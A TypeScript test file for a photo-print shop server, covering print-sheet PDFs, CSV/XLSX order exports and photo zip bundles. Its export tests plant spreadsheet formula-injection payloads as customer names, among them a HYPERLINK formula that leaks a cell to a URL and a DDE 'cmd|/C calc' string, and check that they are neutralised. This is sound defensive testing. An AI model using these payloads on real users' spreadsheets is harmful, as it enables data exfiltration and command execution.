/**
 * Fulfilment over real HTTP (docs/fulfilment.md): the print sheet of an order as the print shop gets it (A4, cards of
 * exactly 54 x 86 mm, photos at ≥ 300 dpi, rendered by poppler to check the photos show), the
 * low-resolution list, the CSV export and the photo bundle, the admin's only.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PDFDocument, PDFName, PDFDict, PDFRawStream, PDFArray, PDFNumber, decodePDFRawStream, type PDFPage } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PHOTO_AREA_MM } from '../../src/domain/photos';
import { windowed } from '../../sync-server/fulfilment/orders';
import readXlsxFile from 'read-excel-file/node';
import { CSV_COLUMNS } from '../../sync-server/fulfilment/export';
import { HttpClient, pullAll, pushChange, pushNew, signInAdmin, signUp, startTestServer, uploadPhoto, type TestServer } from '../helpers/server';
import { customDoc, givePhotos, transactionDoc } from './fixtures';

const MM = 72 / 25.4;
const A4 = { width: 595.28, height: 841.89 };
const CARD = { width: 54 * MM, height: 86 * MM };

let server: TestServer;
let admin: HttpClient;
let sari: HttpClient;
let sariId: string;
let order: ReturnType<typeof transactionDoc>;
let custom: ReturnType<typeof customDoc>;
const urls: string[] = [];

const solid = (width: number, height: number, rgb: [number, number, number]) =>
  sharp({ create: { width, height, channels: 3, background: { r: rgb[0], g: rgb[1], b: rgb[2] } } }).jpeg({ quality: 90 }).toBuffer();

beforeAll(async () => {
  server = await startTestServer();
  admin = new HttpClient(server.url);
  await signInAdmin(admin);
  sari = new HttpClient(server.url);
  sariId = (await signUp(sari)).uid;
  urls.push(await uploadPhoto(sari, await solid(1200, 1600, [220, 20, 20])));
  urls.push(await uploadPhoto(sari, await solid(1600, 1200, [20, 20, 220])));
  urls.push(await uploadPhoto(sari, await solid(200, 260, [20, 160, 20]), 'kecil.jpg'));
  const photos = [
    { url: urls[0]!, caption: 'Liburan di Bromo 2026', crop: { x: 10, y: 5, width: 80, height: 80 } },
    { url: urls[1]!, caption: 'Kita' },
    { url: urls[2]!, caption: '' },
  ];
  const line = { produkID: '1', name: 'Cetak foto', qty: 3, img: [], photos, packaging: 'map|2000', weight: 0, price: 0 };
  order = transactionDoc(sariId, { produkID: '1', items: [line], img: [] });
  expect((await pushNew(sari, 'transactions', [order])).body).toMatchObject({ conflicts: [], refused: [] });
  await givePhotos(sari, sariId, 10);
  custom = customDoc(sariId);
  expect((await pushNew(sari, 'custom', [custom])).body).toEqual({ conflicts: [], refused: [] });
});
afterAll(() => server?.close());

async function download(client: HttpClient, url: string): Promise<{ status: number; type: string | null; bytes: Buffer }> {
  const res = await client.fetch(url);
  return { status: res.status, type: res.headers.get('content-type'), bytes: Buffer.from(await res.arrayBuffer()) };
}

/** A page's drawing operators, as text. */
function contentOf(page: PDFPage): string {
  const contents = page.node.Contents();
  const streams = contents instanceof PDFArray ? Array.from({ length: contents.size() }, (_, i) => contents.lookup(i)) : [contents];
  return streams.map((s) => Buffer.from(decodePDFRawStream(s as PDFRawStream).decode()).toString('latin1')).join('\n');
}

/** The rectangles pdf-lib drew (after their translation): x, y, width, height. */
function rectangles(content: string) {
  const re = /1 0 0 1 ([\d.-]+) ([\d.-]+) cm\n1 0 0 1 0 0 cm\n1 0 0 1 0 0 cm\n0 0 m\n0 ([\d.]+) l\n([\d.]+) [\d.]+ l\n[\d.]+ 0 l\nh/g;
  return [...content.matchAll(re)].map((m) => ({ x: Number(m[1]), y: Number(m[2]), width: Number(m[4]), height: Number(m[3]) }));
}

/** Each image drawn: where (x, y, width, height in points) and its pixel size. */
function images(page: PDFPage, content: string) {
  const xobjects = page.node.Resources()!.lookup(PDFName.of('XObject'), PDFDict);
  const re = /1 0 0 1 ([\d.-]+) ([\d.-]+) cm\n(?:1 0 0 1 0 0 cm\n)*([\d.]+) 0 0 ([\d.]+) 0 0 cm\n(?:1 0 0 1 0 0 cm\n)*\/(\S+) Do/g;
  return [...content.matchAll(re)].map((m) => {
    const xobject = xobjects.lookup(PDFName.of(m[5]!)) as PDFRawStream;
    const px = (key: string) => xobject.dict.lookup(PDFName.of(key), PDFNumber).asNumber();
    return { x: Number(m[1]), y: Number(m[2]), width: Number(m[3]), height: Number(m[4]), pxWidth: px('Width'), pxHeight: px('Height'), ref: String(xobjects.get(PDFName.of(m[5]!))) };
  });
}

/** Renders one page with poppler's pdftoppm at `dpi`; answers its raw RGB pixels. */
async function render(pdf: Buffer, pageNumber: number, dpi: number) {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'jepret-print-'));
  try {
    writeFileSync(path.join(dir, 'sheet.pdf'), pdf);
    execFileSync('pdftoppm', ['-r', String(dpi), '-f', String(pageNumber), '-l', String(pageNumber), '-png', 'sheet.pdf', 'page'], { cwd: dir });
    const png = readdirSync(dir).find((f) => f.endsWith('.png'))!;
    const { data, info } = await sharp(path.join(dir, png)).removeAlpha().raw().toBuffer({ resolveWithObject: true });
    return { pixel: (xPt: number, yPt: number) => {
      const x = Math.round((xPt / 72) * dpi);
      const y = Math.round(((A4.height - yPt) / 72) * dpi);
      const i = (y * info.width + x) * 3;
      return [data[i]!, data[i + 1]!, data[i + 2]!];
    } };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('print sheets', () => {
  it('when someone other than the admin asks for a sheet, then 401 signed out, 403 for a customer, 404 for an unknown order', async () => {
    expect((await new HttpClient(server.url).get(`/api/orders/${order.id}/print.pdf`)).status).toBe(401);
    const forbidden = await sari.get(`/api/orders/${order.id}/print.pdf`);
    expect(forbidden.status).toBe(403);
    expect(forbidden.body).toMatchObject({ error: 'forbidden' });
    expect((await admin.get('/api/orders/xxxxxB123456789zz/print.pdf')).status).toBe(404);
  });

  it('when the admin prints a photo order, then one A4 page holds a 54 x 86 mm card per photo, each photo at ≥ 300 dpi, visible when rendered', async () => {
    const res = await download(admin, `/api/orders/${order.id}/print.pdf`);
    expect(res.status).toBe(200);
    expect(res.type).toBe('application/pdf');
    const pdf = await PDFDocument.load(res.bytes);
    expect(pdf.getPageCount()).toBe(1);
    const page = pdf.getPage(0);
    expect(page.getWidth()).toBeCloseTo(A4.width, 0);
    expect(Math.abs(page.getHeight() - A4.height)).toBeLessThan(0.5);
    const content = contentOf(page);
    const cards = rectangles(content);
    expect(cards).toHaveLength(3);
    for (const card of cards) {
      expect(Math.abs(card.width - CARD.width)).toBeLessThan(0.5);
      expect(Math.abs(card.height - CARD.height)).toBeLessThan(0.5);
    }
    const placed = images(page, content);
    expect(placed).toHaveLength(3);
    for (const image of placed) {
      expect(Math.abs(image.width - PHOTO_AREA_MM.width * MM)).toBeLessThan(0.5);
      expect(image.pxWidth / (image.width / 72)).toBeGreaterThanOrEqual(300);
      expect(image.pxHeight / (image.height / 72)).toBeGreaterThanOrEqual(300);
    }
    const rendered = await render(res.bytes, 1, 50);
    const centre = (i: number) => rendered.pixel(placed[i]!.x + placed[i]!.width / 2, placed[i]!.y + placed[i]!.height / 2);
    const [red, blue, green] = [centre(0), centre(1), centre(2)];
    expect(red[0]).toBeGreaterThan(150);
    expect(red[2]).toBeLessThan(100);
    expect(blue[2]).toBeGreaterThan(150);
    expect(green[1]).toBeGreaterThan(100);
    expect(green[0]).toBeLessThan(100);
    // The card's lower border stays white paper.
    const border = rendered.pixel(cards[0]!.x + CARD.width / 2, cards[0]!.y + 3 * MM);
    expect(Math.min(...border)).toBeGreaterThan(200);
  });

  it('when the admin checks an order before printing, then the photo under 150 dpi is flagged "resolusi rendah", as on the stored line', async () => {
    const res = await admin.get(`/api/orders/${order.id}/print.json`);
    expect(res.status).toBe(200);
    const flags = [['fine', false], ['fine', false], ['low', true]];
    expect(res.body.photos.map((p: { url: string; quality: string; lowRes: boolean }) => [p.url, p.quality, p.lowRes])).toEqual(
      urls.map((url, i) => [url, ...flags[i]!]),
    );
    const stored = (await pullAll(admin, 'transactions')).docs.find((d) => d.id === order.id);
    expect(stored.items[0].photos.map((p: { quality: string }) => p.quality)).toEqual(['fine', 'fine', 'low']);
  });

  it('when a photo asks for three copies, then the sheet prints its card three times, then the next photo once', async () => {
    const photos = [
      { url: urls[0]!, caption: 'Tiga kali', copies: 3 },
      { url: urls[1]!, caption: 'Sekali' },
    ];
    // Placed days ago, so today's export below lists only the orders it expects.
    const threeOf = transactionDoc(sariId, { produkID: '1', items: [{ produkID: '1', name: 'Cetak foto', qty: 4, img: [], photos, packaging: 'map|2000', weight: 0, price: 0 }], img: [], createdAt: Date.now() - 3 * 86_400_000 });
    expect((await pushNew(sari, 'transactions', [threeOf])).body).toMatchObject({ conflicts: [], refused: [] });
    const res = await download(admin, `/api/orders/${threeOf.id}/print.pdf`);
    const page = (await PDFDocument.load(res.bytes)).getPage(0);
    const placed = images(page, contentOf(page));
    expect(placed).toHaveLength(4);
    // The copies draw one embedded image, prepared once: the sheet does not carry the photo three times.
    expect(new Set(placed.slice(0, 3).map((p) => p.ref)).size).toBe(1);
    expect(placed[3]!.ref).not.toBe(placed[0]!.ref);
    expect(rectangles(contentOf(page)).filter((r) => Math.abs(r.width - CARD.width) < 0.5)).toHaveLength(4);
    const rendered = await render(res.bytes, 1, 50);
    const centre = (i: number) => rendered.pixel(placed[i]!.x + placed[i]!.width / 2, placed[i]!.y + placed[i]!.height / 2);
    for (const i of [0, 1, 2]) expect(centre(i)[0], `copy ${i + 1} is the red photo`).toBeGreaterThan(150);
    expect(centre(3)[2]).toBeGreaterThan(150);
  });

  it("when a portrait phone photo with EXIF rotation is not cropped, then it prints upright with its top (the face) inside the card; 'Tanpa potong' prints a whole landscape photo with a white border", async () => {
    // Stored sideways as the camera does (1600 x 900, orientation 6: turned a quarter clockwise to view); its left
    // 150 px, red, are the top of the upright 900 x 1600 photo. A centred crop would cut them off.
    const red = await sharp({ create: { width: 150, height: 900, channels: 3, background: { r: 220, g: 20, b: 20 } } }).png().toBuffer();
    const sideways = await sharp({ create: { width: 1600, height: 900, channels: 3, background: { r: 20, g: 160, b: 20 } } })
      .composite([{ input: red, left: 0, top: 0 }])
      .jpeg({ quality: 90 })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const portrait = await uploadPhoto(sari, sideways, 'potret.jpg');
    const photos = [{ url: portrait, caption: '' }, { url: urls[1]!, caption: '', fit: 'whole' }];
    const line = { produkID: '1', name: 'Cetak foto', qty: 2, img: [], photos, packaging: 'map|2000', weight: 0, price: 0 };
    const placedOrder = transactionDoc(sariId, { produkID: '1', items: [line], img: [], createdAt: Date.now() - 3 * 86_400_000 });
    expect((await pushNew(sari, 'transactions', [placedOrder])).body).toMatchObject({ conflicts: [], refused: [] });
    const res = await download(admin, `/api/orders/${placedOrder.id}/print.pdf`);
    const page = (await PDFDocument.load(res.bytes)).getPage(0);
    const [upright, whole] = images(page, contentOf(page));
    const rendered = await render(res.bytes, 1, 100);
    const at = (img: typeof upright, fx: number, fy: number) => rendered.pixel(img!.x + img!.width * fx, img!.y + img!.height * (1 - fy));
    // Upright: red across the top of the window, green below it.
    expect(at(upright, 0.5, 0.04)[0]).toBeGreaterThan(150);
    expect(at(upright, 0.5, 0.04)[1]).toBeLessThan(100);
    expect(at(upright, 0.5, 0.6)[1]).toBeGreaterThan(100);
    expect(at(upright, 0.5, 0.6)[0]).toBeLessThan(100);
    // Whole: the 1600 x 1200 blue photo spans the window's width, with white paper above and below it.
    expect(Math.min(...at(whole, 0.5, 0.05))).toBeGreaterThan(200);
    expect(at(whole, 0.5, 0.5)[2]).toBeGreaterThan(150);
    expect(at(whole, 0.03, 0.5)[2]).toBeGreaterThan(150);
    expect(Math.min(...at(whole, 0.5, 0.95))).toBeGreaterThan(200);
    const stored = (await pullAll(admin, 'transactions')).docs.find((d) => d.id === placedOrder.id);
    expect(stored.items[0].photos[1]).toMatchObject({ fit: 'whole', quality: 'fine' });
  });

  it('when the admin prints a custom order, then white-film and black-film photos are on separate pages', async () => {
    const res = await download(admin, `/api/orders/${custom.id}/print.pdf`);
    expect(res.status).toBe(200);
    const pdf = await PDFDocument.load(res.bytes);
    expect(pdf.getPageCount()).toBe(2);
    const perPage = pdf.getPages().map((p) => images(p, contentOf(p)).length);
    expect(perPage).toEqual([custom.imgWhite.length, custom.imgBlack.length]);
  });
});

/** Today as YYYY-MM-DD in the shop's time zone (WIB). */
const shopToday = () => new Date(Date.now() + 7 * 3600_000).toISOString().slice(0, 10);

describe('export', () => {
  it('when the admin exports today, then a UTF-8 CSV with BOM lists the order and the custom order with their columns', async () => {
    const res = await download(admin, `/api/orders.csv?from=${shopToday()}&to=${shopToday()}`);
    expect(res.status).toBe(200);
    expect(res.type).toMatch(/^text\/csv; charset=utf-8/);
    expect([...res.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = res.bytes.toString('utf8').slice(1).trim().split('\n');
    expect(lines[0]).toBe('Kode,Tanggal,Pelanggan,Telepon,Alamat,Kurir,Layanan,Resi,Status,Barang,Jumlah,Packaging,Total,Riwayat');
    expect(lines).toHaveLength(3);
    const row = lines.find((l) => l.startsWith(order.id))!;
    const date = new Intl.DateTimeFormat('en-US', { timeZone: 'Asia/Jakarta' }).format(new Date(order.createdAt));
    expect(row).toContain(`,${date},Budi,081234567890,"Jl. Melawai 2, Kebayoran Baru, Jakarta Selatan, DKI Jakarta",JNE REG,REG,,Konfirmasi,`);
    // The server names the line after the product; the order's packaging is its photo line's (Map, whatever the
    // device wrote at the top), and the total is the server's own.
    expect(row).toMatch(/ x3,3,Map,\d+,/);
    // Kurir and packaging as the admin's tables show them; a custom order's marketplace order as its Nomor Pemesanan.
    const customRow = lines.find((l) => l.startsWith(custom.id))!;
    expect(customRow).toContain(',Tokopedia,Tokopedia · Sari · INV-1,');
    expect(customRow).toContain('Custom: film putih 2, film hitam 1');
    // Its Riwayat, as an order's (docs/history.md).
    expect(customRow).toMatch(new RegExp(`,Box,\\d+,"?${date.replace(/\//g, '\\/')} Pesanan dibuat pelanggan \\(Pelanggan\\)`));
  });

  it('when an order was placed just after midnight WIB, then the export of that day dates it that day, not the day before in the server\'s zone', async () => {
    // 00:30 WIB on 1 March is 17:30 UTC on 28 February: the server (UTC here) wrote '2/28/2025' in 1 March's export.
    const night = transactionDoc(sariId, { userName: 'Larut Malam', createdAt: Date.UTC(2025, 1, 28, 17, 30) });
    expect((await pushNew(sari, 'transactions', [night])).body.refused).toEqual([]);
    const res = await download(admin, '/api/orders.csv?from=2025-03-01&to=2025-03-01');
    const rows = res.bytes.toString('utf8').trim().split('\n').slice(1);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatch(new RegExp(`^${night.id},3/1/2025,Larut Malam,`));
  });

  it('when the admin filters by a status or a day without orders, then only the header comes back', async () => {
    const paid = await download(admin, `/api/orders.csv?status=1`);
    expect(paid.bytes.toString('utf8').trim().split('\n')).toHaveLength(1);
    const old = await download(admin, `/api/orders.csv?from=2020-01-01&to=2020-01-31&status=0`);
    expect(old.bytes.toString('utf8').trim().split('\n')).toHaveLength(1);
  });

  it('when the dates or the status are not valid, then 400 with an Indonesian message; a customer gets 403', async () => {
    for (const query of ['from=2026-02-30', 'from=kemarin', 'from=2026-05-02&to=2026-05-01']) {
      const res = await admin.get(`/api/orders.csv?${query}`);
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({ error: 'export_bad_dates', message: expect.stringContaining('Tanggal tidak valid') });
    }
    for (const query of ['status=9', 'status=x', 'status=1&status=2']) {
      const res = await admin.get(`/api/orders.csv?${query}`);
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({ error: expect.stringMatching(/^export_bad_/) });
    }
    expect((await sari.get('/api/orders.csv')).status).toBe(403);
  });

  it('when a custom order\'s kurir names another marketplace than its order number, then Kurir follows the order number, as the Custom table does', async () => {
    // Its writer chose Shopee; the `kurir` field (which no screen shows) says Tokopedia. The CSV said 'Tokopedia'.
    const odd = customDoc(sariId, { pengiriman: 'shopee|sari_s|SHP-77', kurir: 'tokopedia' });
    expect((await pushNew(sari, 'custom', [odd])).body.refused).toEqual([]);
    const res = await download(admin, `/api/orders.csv?from=${shopToday()}&to=${shopToday()}`);
    const row = res.bytes.toString('utf8').split('\n').find((l) => l.startsWith(odd.id))!;
    expect(row).toContain(',Shopee,Shopee · sari_s · SHP-77,');
  });
});

describe('export of text a customer typed', () => {
  it('when a name or an address starts like a spreadsheet formula, then the CSV keeps it as text; a phone number stays a number', async () => {
    // A customer's own name and address go into the owner's spreadsheet: '=HYPERLINK(…)' was a live link there.
    const sly = transactionDoc(sariId, {
      userName: '=HYPERLINK("https://contoh.id/?d="&E2,"Klik")', alamat: '@SUM(A1:A9) Jl. Melati', phone: '+6281234567890',
    });
    const sly2 = transactionDoc(sariId, { userName: "-2+3+cmd|' /C calc'!A0", alamat: '+Jl. Kenanga 3' });
    expect((await pushNew(sari, 'transactions', [sly, sly2])).body).toMatchObject({ conflicts: [], refused: [] });
    const text = (await download(admin, `/api/orders.csv?from=${shopToday()}&to=${shopToday()}`)).bytes.toString('utf8');
    const row = (id: string) => text.split('\n').find((l) => l.startsWith(id))!;
    expect(row(sly.id)).toContain(`,"'=HYPERLINK(""https://contoh.id/?d=""&E2,""Klik"")",+6281234567890,"'@SUM(A1:A9) Jl. Melati, `);
    expect(row(sly2.id)).toContain(`,'-2+3+cmd|' /C calc'!A0,081234567890,"'+Jl. Kenanga 3, `);
  });

  it('when a name starts with a space, a no-break space, a line break or a full-width formula sign before the formula, then it is kept as text too', async () => {
    // Spreadsheets skip leading blanks before a formula, and an IME's full-width '＝' / '＋' / '－' / '＠' starts one.
    const names = [' =1+1', '\u00a0=1+1', '\u3000=1+1', '\n=1+1', '\t@SUM(A1)', '\r-1+cmd|x', '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', '﹦1+1', ' \u00a0 +cmd|x'];
    // Placed a week ago, so their line breaks stay out of the other tests' export of today.
    const weekAgo = Date.now() - 7 * 86_400_000;
    const day = new Date(weekAgo + 7 * 3600_000).toISOString().slice(0, 10);
    const docs = names.map((userName) => transactionDoc(sariId, { userName, createdAt: weekAgo }));
    const res = await pushNew(sari, 'transactions', docs);
    expect(res.body.refused).toEqual([]);
    const stored = new Map((await pullAll(admin, 'transactions', 1000)).docs.map((d) => [d.id, d.userName]));
    const text = (await download(admin, `/api/orders.csv?from=${day}&to=${day}`)).bytes.toString('utf8');
    for (const doc of docs) {
      const typed = stored.get(doc.id) as string;
      // As typed, behind an apostrophe, quoted as CSV quotes it when it holds a line break.
      const cell = /[\n\r"]/.test(typed) ? `"'${typed.replace(/"/g, '""')}"` : `'${typed}`;
      expect(text, JSON.stringify(typed)).toContain(`${doc.id},`);
      expect(text, JSON.stringify(typed)).toContain(`,${cell},`);
    }
  });
});

describe('export as an Excel workbook', () => {
  const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

  it('when the admin exports today as .xlsx, then phone, code and a long numeric resi stay text, Jumlah and Total are numbers, Tanggal is a date, a formula-like name is kept as typed', async () => {
    const shipped = transactionDoc(sariId, { userName: '=HYPERLINK("https://contoh.id","Klik")', phone: '081298760000' });
    expect((await pushNew(sari, 'transactions', [shipped])).body).toMatchObject({ conflicts: [], refused: [] });
    const master = (await pullAll(admin, 'transactions', 500)).docs.find((d) => d.id === shipped.id);
    // A 16-digit resi: as a CSV cell a spreadsheet shows it as 1.23457E+15 and drops its leading 0.
    expect((await pushChange(admin, 'transactions', master, { ...master, buyStatus: 2, resi: '0123456789012345' })).body.refused).toEqual([]);

    const res = await download(admin, `/api/orders.xlsx?from=${shopToday()}&to=${shopToday()}`);
    expect(res.status).toBe(200);
    expect(res.type).toBe(XLSX);
    const [{ data: rows }] = (await readXlsxFile(res.bytes)) as unknown as [{ data: unknown[][] }];
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const row = rows.find((r) => r[0] === shipped.id)!;
    expect(row[2]).toBe('=HYPERLINK("https://contoh.id","Klik")');
    expect(row[3]).toBe('081298760000');
    expect(row[7]).toBe('0123456789012345');
    expect(row[8]).toBe('Dikirim');
    expect(typeof row[10]).toBe('number');
    expect(row[12]).toBe(master.price);
    // The shop's day (WIB) as the date: the cell holds the wall-clock time in Jakarta.
    expect(row[1]).toBeInstanceOf(Date);
    expect((row[1] as Date).toISOString().slice(0, 10)).toBe(shopToday());
    // Everything the CSV of the same day lists, in the same order.
    const csvIds = (await download(admin, `/api/orders.csv?from=${shopToday()}&to=${shopToday()}`)).bytes.toString('utf8').trim().split('\n').slice(1).map((l) => l.split(',')[0]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(csvIds);
  });

  it('when the dates are not valid, then 400 with the same message as the CSV; a customer gets 403', async () => {
    const res = await admin.get('/api/orders.xlsx?from=2026-02-30');
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ error: 'export_bad_dates' });
    expect((await sari.get('/api/orders.xlsx')).status).toBe(403);
  });
});

describe('photo bundle', () => {
  it('when the admin downloads an order\'s photos, then the zip holds the original files as {code}-{n} and captions.txt', async () => {
    const res = await download(admin, `/api/orders/${order.id}/photos.zip`);
    expect(res.status).toBe(200);
    expect(res.type).toBe('application/zip');
    const dir = mkdtempSync(path.join(os.tmpdir(), 'jepret-zip-'));
    try {
      writeFileSync(path.join(dir, 'foto.zip'), res.bytes);
      execFileSync('unzip', ['-q', 'foto.zip', '-d', 'out'], { cwd: dir });
      const names = readdirSync(path.join(dir, 'out')).sort();
      expect(names).toEqual(['captions.txt', ...[1, 2, 3].map((n) => `${order.id}-${n}.jpg`)].sort());
      // JPEGs go in stored (method 0), not deflated: `unzip -v` lists each photo as Stored.
      const listing = execFileSync('unzip', ['-v', 'foto.zip'], { cwd: dir, encoding: 'utf8' });
      for (const n of [1, 2, 3]) expect(listing).toMatch(new RegExp(`\\sStored\\s.*${order.id}-${n}\\.jpg`));
      for (const [i, url] of urls.entries()) {
        const original = await download(admin, url);
        expect(readFileSync(path.join(dir, 'out', `${order.id}-${i + 1}.jpg`)).equals(original.bytes)).toBe(true);
      }
      const captions = readFileSync(path.join(dir, 'out', 'captions.txt'), 'utf8');
      expect(captions).toContain(`${order.id}-1.jpg\tLiburan di Bromo 2026`);
      expect(captions).toContain(`${order.id}-2.jpg\tKita`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('when a custom order is bundled, then its captions say which film each photo is for; a customer gets 403', async () => {
    const res = await download(admin, `/api/orders/${custom.id}/photos.zip`);
    expect(res.status).toBe(200);
    expect((await sari.get(`/api/orders/${custom.id}/photos.zip`)).status).toBe(403);
    expect((await admin.get(`/api/orders/nope/photos.zip`)).status).toBe(404);
  });
});

describe('preparing a large order a few photos at a time', () => {
  it('when photos are taken in order, then no more than the window is started beyond the one taken, and each answers its own', async () => {
    const started: number[] = [];
    const take = windowed(100, 8, async (i) => {
      started.push(i);
      return i * 2;
    });
    for (let i = 0; i < 100; i++) {
      expect(await take(i)).toBe(i * 2);
      expect(started.length).toBe(Math.min(100, i + 9));
    }
    const failing = windowed(3, 8, async (i) => (i === 2 ? Promise.reject(new Error('gone')) : i)); // never taken: no unhandled rejection
    expect(await failing(0)).toBe(0);
  });
});

/** The text poppler reads off a PDF, white space folded. */
function pdfText(pdf: Buffer): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'jepret-text-'));
  try {
    writeFileSync(path.join(dir, 'sheet.pdf'), pdf);
    return execFileSync('pdftotext', ['-enc', 'UTF-8', 'sheet.pdf', '-'], { cwd: dir, encoding: 'utf8' }).replace(/\s+/g, ' ');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Each word poppler reads off the first page, where it stands (points from the top left), top to bottom. */
function pdfWords(pdf: Buffer): Array<{ text: string; xMin: number; xMax: number; yMin: number; yMax: number }> {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'jepret-words-'));
  try {
    writeFileSync(path.join(dir, 'sheet.pdf'), pdf);
    const html = execFileSync('pdftotext', ['-bbox', '-enc', 'UTF-8', '-f', '1', '-l', '1', 'sheet.pdf', '-'], { cwd: dir, encoding: 'utf8' });
    const re = /<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)<\/word>/g;
    return [...html.matchAll(re)]
      .map((m) => ({ xMin: Number(m[1]), yMin: Number(m[2]), xMax: Number(m[3]), yMax: Number(m[4]), text: m[5]!.replace(/&amp;/g, '&') }))
      .sort((a, b) => a.yMin - b.yMin || a.xMin - b.xMin);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('captions on the print sheet', () => {
  it('when a caption has typographic characters the PDF font encodes, then they print as typed; only the others become ?', async () => {
    const photos = [
      { url: urls[0]!, caption: 'Liburan Bali 2026 – keluarga' },
      { url: urls[1]!, caption: '“Kita” — ‘ya’ … €5 • Œuvre™ café' },
      { url: urls[0]!, caption: 'Pantai 🌊 北京' },
    ];
    const line = { produkID: '1', name: 'Cetak foto', qty: 3, img: [], photos, packaging: 'map|2000', weight: 0, price: 0 };
    const captioned = transactionDoc(sariId, { produkID: '1', items: [line], img: [] });
    expect((await pushNew(sari, 'transactions', [captioned])).body).toMatchObject({ conflicts: [], refused: [] });
    const res = await download(admin, `/api/orders/${captioned.id}/print.pdf`);
    expect(res.status).toBe(200);
    const text = pdfText(res.bytes);
    expect(text).toContain('Liburan Bali 2026 – keluarga');
    expect(text).toContain('“Kita” — ‘ya’ … €5 • Œuvre™ café');
    expect(text).toContain('Pantai ? ??');
  });

  it('when a caption is one long word (a hashtag, a handle), then it wraps inside its own card with every character printed', async () => {
    const captions = ['#JepretKenanganIndahBersamaKeluargaTercinta', 'W'.repeat(60), 'Untuk @jepret.polaroid_official_store_indonesia'];
    const photos = captions.map((caption, i) => ({ url: urls[i % 2]!, caption }));
    const line = { produkID: '1', name: 'Cetak foto', qty: 3, img: [], photos, packaging: 'map|2000', weight: 0, price: 0 };
    const captioned = transactionDoc(sariId, { produkID: '1', items: [line], img: [] });
    expect((await pushNew(sari, 'transactions', [captioned])).body).toMatchObject({ conflicts: [], refused: [] });
    const res = await download(admin, `/api/orders/${captioned.id}/print.pdf`);
    expect(res.status).toBe(200);
    const cards = rectangles(contentOf((await PDFDocument.load(res.bytes)).getPage(0)));
    const words = pdfWords(res.bytes);
    captions.forEach((caption, i) => {
      const card = cards[i]!;
      const top = A4.height - card.y - card.height;
      const inCard = words.filter((w) => w.xMin >= card.x && w.xMax <= card.x + card.width && w.yMin >= top && w.yMax <= top + card.height);
      expect(inCard.map((w) => w.text).join('')).toBe(caption.replace(/\s+/g, ''));
    });
    // Nothing runs off its card: every word is on one, but the page's label above the cards.
    const gridTop = A4.height - cards[0]!.y - cards[0]!.height;
    expect(words.filter((w) => w.yMax > gridTop && !cards.some((c) => w.xMin >= c.x && w.xMax <= c.x + c.width))).toEqual([]);
  });
});

describe('export of an order without packaging', () => {
  it('when an order has no packaging, then the CSV says so in Indonesian, as the Pesanan table does', async () => {
    const plain = transactionDoc(sariId, { packaging: '' });
    expect((await pushNew(sari, 'transactions', [plain])).body).toMatchObject({ conflicts: [], refused: [] });
    const res = await download(admin, `/api/orders.csv?from=${shopToday()}&to=${shopToday()}`);
    const row = res.bytes.toString('utf8').split('\n').find((l) => l.startsWith(plain.id))!;
    expect(row).toMatch(/,JNE REG,REG,.*,Tanpa packaging,\d+,/);
  });
});
